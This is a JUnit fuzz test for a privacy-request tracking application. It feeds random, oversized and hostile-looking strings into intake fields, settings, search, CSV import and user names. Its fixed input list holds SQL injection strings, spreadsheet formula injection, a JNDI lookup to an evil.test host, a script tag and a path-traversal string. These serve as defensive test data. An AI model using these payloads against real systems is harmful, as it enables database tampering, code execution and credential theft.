package com.privacydesk.app;

import static org.assertj.core.api.Assertions.assertThat;

import com.privacydesk.Services;
import com.privacydesk.TestServices;
import com.privacydesk.app.cases.Duplicates;
import com.privacydesk.app.cases.OptOutImportService;
import com.privacydesk.app.cases.ViewSpec;
import com.privacydesk.app.port.CaseSort;
import com.privacydesk.app.port.UserFacingError;
import com.privacydesk.app.settings.SettingsForm;
import com.privacydesk.domain.Channel;
import com.privacydesk.domain.OptOutScope;
import com.privacydesk.domain.intake.AuthenticationMethod;
import com.privacydesk.domain.intake.CaDisclosureIntake;
import com.privacydesk.domain.intake.ChildDeletionIntake;
import com.privacydesk.domain.intake.CommonIntake;
import com.privacydesk.domain.intake.CoppaTrigger;
import com.privacydesk.domain.intake.CpniBreachIntake;
import com.privacydesk.domain.intake.FieldError;
import com.privacydesk.domain.intake.OptOutIntake;
import com.privacydesk.domain.intake.ParentVerification;
import com.privacydesk.domain.intake.PasswordCompromiseIntake;
import com.privacydesk.domain.intake.RequesterKind;
import com.privacydesk.domain.intake.ResidencyBasis;
import com.privacydesk.domain.intake.Under13Basis;
import com.privacydesk.domain.user.Role;
import java.nio.file.Path;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.ResourceBundle;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Random, huge, control-character, SQL-looking, formula-looking and odd-Unicode input thrown at
 * every free-text input the tracker takes: every intake field of every type, notes, contact
 * corrections, reveal reasons, the settings screen, the queue search, view names and user names.
 * Each attempt is stored whole or refused with field errors the user can read (a bundle text for
 * every code); a refusal stores nothing (cases and audit entries counted before and after); nothing
 * else is thrown; the audit chain stays intact. Seeded: a failure names its seed and input.
 */
class FuzzInputTest {
  private static final long SEED = 20261122L;
  private static final String PUNCTUATION = "'\";=+-@%_\\*()<>|&";
  private static final int RANDOM_INPUTS = 60;
  private static final ResourceBundle BUNDLE =
      ResourceBundle.getBundle("com.privacydesk.i18n.messages");
  private static final LocalDateTime RECEIVED = LocalDateTime.of(2026, 11, 18, 9, 30);

  @TempDir Path dir;
  private Services s;
  private Actor admin;
  private Actor agent;
  private long passwordCase;
  private int accepted;
  private int refused;

  @BeforeEach
  void open() {
    s = TestServices.open(dir);
    admin = TestServices.admin(s);
    agent = TestServices.user(s, admin, "ann", Role.AGENT);
    passwordCase =
        s.intake()
            .logPasswordCompromise(
                agent,
                new PasswordCompromiseIntake(
                    common(Channel.PHONE, "ACC-77", "Address on the account"),
                    AuthenticationMethod.CALL_BACK_TO_NUMBER_OF_RECORD));
  }

  @AfterEach
  void close() {
    s.close();
  }

  /** The inputs: fixed nasties, then seeded random strings of every kind. */
  static List<String> inputs() {
    List<String> in =
        new ArrayList<>(
            List.of(
                "",
                " ",
                "\t\n\r ",
                "'; DROP TABLE privacy_case; --",
                "\" OR 1=1 --",
                "x' UNION SELECT password_hash FROM app_user --",
                "Robert'); DELETE FROM audit_event;--",
                "=HYPERLINK(\"http://evil.test\",\"click\")",
                "+cmd|' /C calc'!A0",
                "-2+3",
                "@SUM(1+1)",
                "\u0000",
                "a\u0000b",
                "\u0007bell\u001b[31m",
                "line\u2028separator",
                "\u202Eevil.exe",
                "zero\u200Bwidth",
                "\uD83D\uDE00 emoji",
                "lone \uD800 surrogate",
                "%s%n%x {0} ${jndi:ldap://evil.test/a}",
                "<script>alert(1)</script>",
                "../../../../etc/passwd",
                "123-45-6789",
                "4111 1111 1111 1111",
                "DOB 01/02/2015",
                "a".repeat(41),
                "a".repeat(255),
                "b".repeat(4_001),
                "c".repeat(100_000),
                "name@example.com",
                "NAME+tag@Example.COM ",
                "@",
                "a@b",
                "x".repeat(250) + "@example.com",
                "ACC-10442",
                "2026-13-45 Closure"));
    Random random = new Random(SEED);
    for (int i = 0; i < RANDOM_INPUTS; i++) {
      in.add(randomString(random));
    }
    return in;
  }

  private static String randomString(Random random) {
    int length =
        switch (random.nextInt(4)) {
          case 0 -> random.nextInt(5);
          case 1 -> random.nextInt(60);
          case 2 -> random.nextInt(400);
          default -> random.nextInt(20_000);
        };
    StringBuilder b = new StringBuilder(length);
    for (int i = 0; i < length; i++) {
      int kind = random.nextInt(10);
      int cp =
          switch (kind) {
            case 0 -> random.nextInt(0x20); // control
            case 1 -> PUNCTUATION.charAt(random.nextInt(PUNCTUATION.length()));
            case 2 -> 0x80 + random.nextInt(0x780); // Latin, Greek, Cyrillic...
            case 3 -> 0x1F300 + random.nextInt(0x300); // emoji (surrogate pairs)
            case 4 -> 0xD800 + random.nextInt(0x800); // lone surrogates
            default -> 0x20 + random.nextInt(0x5F); // printable ASCII
          };
      b.appendCodePoint(cp);
    }
    return b.toString();
  }

  private static CommonIntake common(Channel channel, String account, String contact) {
    return new CommonIntake(channel, RECEIVED, RequesterKind.SELF, account, contact);
  }

  private long[] counts() {
    var check = s.backups().check();
    return new long[] {check.cases(), check.audit().entries()};
  }

  /**
   * Runs {@code attempt} with each input: accepted, or refused with readable field errors and
   * nothing stored. {@code stores} says whether an accepted attempt adds a case.
   */
  private void fuzz(String what, Consumer<String> attempt) {
    for (String input : inputs()) {
      long[] before = counts();
      try {
        attempt.accept(input);
        accepted++;
      } catch (ValidationException e) {
        refused++;
        assertThat(e.errors()).as("%s %s", what, shown(input)).isNotEmpty();
        for (FieldError error : e.errors()) {
          assertThat(BUNDLE.containsKey("error." + error.code()))
              .as("%s: text for error.%s (input %s)", what, error.code(), shown(input))
              .isTrue();
        }
        assertThat(counts()).as("%s stored nothing for %s", what, shown(input)).isEqualTo(before);
      } catch (RuntimeException e) {
        if (e instanceof UserFacingError u && BUNDLE.containsKey(u.messageKey())) {
          refused++;
          assertThat(counts()).as("%s stored nothing for %s", what, shown(input)).isEqualTo(before);
        } else {
          throw new AssertionError(
              what + " threw " + e + " for input " + shown(input) + " (seed " + SEED + ")", e);
        }
      }
    }
  }

  private static String shown(String input) {
    String cut = input.length() > 60 ? input.substring(0, 60) + "…(" + input.length() + ")" : input;
    return cut.codePoints()
        .collect(
            StringBuilder::new,
            (b, c) -> {
              if (Character.isISOControl(c) || Character.isSurrogate((char) c)) {
                b.append(String.format("\\u%04x", c));
              } else {
                b.appendCodePoint(c);
              }
            },
            StringBuilder::append)
        .toString();
  }

  @Test
  void everyIntakeFieldTakesAnyInputWholeOrRefusesItCleanly() {
    fuzz(
        "opt-out email",
        in ->
            s.intake()
                .logOptOut(
                    agent,
                    new OptOutIntake(
                        in, OptOutScope.ALL_COMMERCIAL, null, Channel.WEB_FORM, RECEIVED),
                    Duplicates.ignore()));
    fuzz(
        "opt-out categories",
        in ->
            s.intake()
                .logOptOut(
                    agent,
                    new OptOutIntake(
                        "fuzz@example.com",
                        OptOutScope.SELECTED_CATEGORIES,
                        in,
                        Channel.WEB_FORM,
                        RECEIVED),
                    Duplicates.ignore()));
    fuzz(
        "account reference",
        in ->
            s.intake()
                .logCaDisclosure(
                    agent,
                    new CaDisclosureIntake(
                        common(Channel.POSTAL_MAIL, in, "reply@example.com"),
                        ResidencyBasis.SERVICE_ADDRESS,
                        false,
                        null),
                    Duplicates.ignore()));
    fuzz(
        "reply contact",
        in ->
            s.intake()
                .logCaDisclosure(
                    agent,
                    new CaDisclosureIntake(
                        common(Channel.POSTAL_MAIL, "ACC-1", in),
                        ResidencyBasis.SERVICE_ADDRESS,
                        false,
                        null),
                    Duplicates.ignore()));
    fuzz(
        "agent authority",
        in ->
            s.intake()
                .logCaDisclosure(
                    agent,
                    new CaDisclosureIntake(
                        new CommonIntake(
                            Channel.POSTAL_MAIL,
                            RECEIVED,
                            RequesterKind.AUTHORIZED_AGENT,
                            "ACC-2",
                            "reply@example.com"),
                        ResidencyBasis.BILLING_ADDRESS,
                        false,
                        in),
                    Duplicates.ignore()));
    fuzz(
        "COPPA reply contact",
        in ->
            s.intake()
                .logChildDeletion(
                    agent,
                    new ChildDeletionIntake(
                        new CommonIntake(
                            Channel.PHONE, RECEIVED, RequesterKind.PARENT, "ACC-3", in),
                        CoppaTrigger.PARENT_REQUEST,
                        Under13Basis.PARENT_STATEMENT,
                        ParentVerification.PENDING),
                    Duplicates.ignore()));
    fuzz(
        "password report account",
        in ->
            s.intake()
                .logPasswordCompromise(
                    agent,
                    new PasswordCompromiseIntake(
                        common(Channel.PHONE, in, null), AuthenticationMethod.ACCOUNT_PASSWORD),
                    Duplicates.ignore()));
    fuzz(
        "breach determined by",
        in ->
            s.intake()
                .openCpniBreach(
                    agent,
                    new CpniBreachIntake(
                        passwordCase, LocalDate.of(2026, 11, 19), in, "Call records", null)));
    fuzz(
        "breach description",
        in ->
            s.intake()
                .openCpniBreach(
                    agent,
                    new CpniBreachIntake(
                        passwordCase, LocalDate.of(2026, 11, 19), "Security team", in, null)));
    assertThat(accepted).isPositive();
    assertThat(refused).isPositive();
    assertThat(s.audit().verify().intact()).isTrue();
    System.out.printf(
        "Fuzz (intake): %d attempts, %d stored whole, %d refused cleanly%n",
        accepted + refused, accepted, refused);
  }

  @Test
  void workInputsSettingsSearchAndNamesTakeAnyInputOrRefuseItCleanly() {
    long ca =
        s.intake()
            .logCaDisclosure(
                agent,
                new CaDisclosureIntake(
                    common(Channel.POSTAL_MAIL, "ACC-9", "reply@example.com"),
                    ResidencyBasis.SERVICE_ADDRESS,
                    false,
                    null),
                Duplicates.ignore());
    s.assignments().take(agent, ca, s.queries().detail(agent, ca).version());
    fuzz(
        "note", in -> s.workflow().addNote(agent, ca, s.queries().detail(agent, ca).version(), in));
    fuzz(
        "contact correction",
        in ->
            s.workflow()
                .editContact(agent, ca, s.queries().detail(agent, ca).version(), "ACC-9", in));
    fuzz("reveal reason", in -> s.queries().reveal(agent, ca, in));
    SettingsForm form = SettingsForm.of(s.settings().current());
    fuzz(
        "settings closures",
        in ->
            s.settings()
                .update(
                    admin,
                    new SettingsForm(
                            form.zone(),
                            form.designatedChannels(),
                            form.addresses(),
                            form.caInternalDays(),
                            form.coppaAcknowledgeDays(),
                            form.coppaDeleteDays(),
                            form.passwordDays(),
                            in,
                            form.reviewTypes(),
                            in,
                            in,
                            form.confirmReceivedDays())
                        .toSettings()));
    fuzz(
        "settings zone and addresses",
        in ->
            s.settings()
                .update(
                    admin,
                    new SettingsForm(
                            in,
                            form.designatedChannels(),
                            in,
                            form.caInternalDays(),
                            form.coppaAcknowledgeDays(),
                            form.coppaDeleteDays(),
                            form.passwordDays(),
                            "",
                            form.reviewTypes(),
                            "",
                            "",
                            form.confirmReceivedDays())
                        .toSettings()));
    fuzz(
        "queue search",
        in ->
            s.queries()
                .page(agent, ViewSpec.ALL, in, CaseSort.DUE, LocalDate.of(2026, 11, 20), 0, 50));
    fuzz("saved view name", in -> s.queuePreferences().save(agent, in, ViewSpec.ALL));
    assertThat(s.audit().verify().intact()).isTrue();
    assertThat(s.queries().detail(agent, ca).notes()).isNotEmpty();
    System.out.printf(
        "Fuzz (work, settings, search, names): %d attempts, %d accepted, %d refused cleanly%n",
        accepted + refused, accepted, refused);
  }

  /**
   * The bulk import path: every input as the email cell, then as the received, channel and scope
   * cells of a file (written by Commons CSV, so it is always valid CSV), previewed and imported. A
   * row is imported whole or refused with readable reasons; the cases stored are exactly the
   * created ones; the file as a whole is never half imported.
   */
  @Test
  void theOptOutImportTakesAnyCellOrRefusesTheRowCleanly() throws Exception {
    var imports = s.optOutImports();
    int attempts = 0;
    int imported = 0;
    int rowsRefused = 0;
    List<String> inputs = inputs();
    for (int column = 0; column < 4; column++) {
      var text = new java.io.StringWriter();
      try (var csv =
          org.apache.commons.csv.CSVFormat.RFC4180
              .builder()
              .setHeader("email", "received", "channel", "scope")
              .get()
              .print(text)) {
        for (int i = 0; i < inputs.size(); i++) {
          String[] row = {"fuzz" + column + "x" + i + "@example.com", "", "", ""};
          row[column] = inputs.get(i);
          csv.printRecord((Object[]) row);
        }
      }
      byte[] bytes = text.toString().getBytes(java.nio.charset.StandardCharsets.UTF_8);
      OptOutImportService.Source source = () -> new java.io.ByteArrayInputStream(bytes);
      long[] before = counts();
      var preview = imports.preview(agent, source, OptOutImportService.Progress.none());
      assertThat(preview.rows() + preview.blankLines()).isEqualTo(inputs.size());
      assertThat(counts()).as("a preview stores nothing").isEqualTo(before);
      var result =
          imports.apply(agent, source, 7, OptOutImportService.Progress.none(), () -> false);
      assertThat(result.ending()).isEqualTo(OptOutImportService.Ending.DONE);
      assertThat(result.created() + result.duplicates() + result.invalid())
          .isEqualTo(preview.rows());
      assertThat(result.created()).isEqualTo(preview.newRows());
      assertThat(counts()[0])
          .as("exactly the created cases")
          .isEqualTo(before[0] + result.created());
      for (var problem : result.problems()) {
        for (FieldError error : problem.errors()) {
          assertThat(BUNDLE.containsKey("error." + error.code()))
              .as("text for error.%s (line %d)", error.code(), problem.line())
              .isTrue();
        }
      }
      attempts += inputs.size();
      imported += (int) result.created();
      rowsRefused += (int) (result.invalid() + result.duplicates());
    }
    assertThat(s.audit().verify().intact()).isTrue();
    System.out.printf(
        "Fuzz (import): %d cells, %d rows imported whole, %d rows refused cleanly%n",
        attempts, imported, rowsRefused);
  }

  @Test
  void userNamesAndPasswordsTakeAnyInputOrRefuseItCleanly() {
    List<String> few = inputs().subList(0, 40);
    // failed sign-ins are answered ever later (UserService.delayAfter): not waited for here
    s.users().waitWith(delay -> {});
    for (String in : few) {
      long[] before = counts();
      try {
        s.users().addUser(admin, in, Role.AGENT, "a long enough password".toCharArray());
      } catch (ValidationException e) {
        assertThat(counts()).isEqualTo(before);
      }
      try {
        s.users().authenticate(in, in.toCharArray());
      } catch (com.privacydesk.app.auth.AuthenticationException e) {
        // expected for nearly all
      }
    }
    assertThat(s.users().listAccounts(admin))
        .allSatisfy(a -> assertThat(a.username()).matches("[a-z0-9][a-z0-9._-]{1,31}"));
  }
}
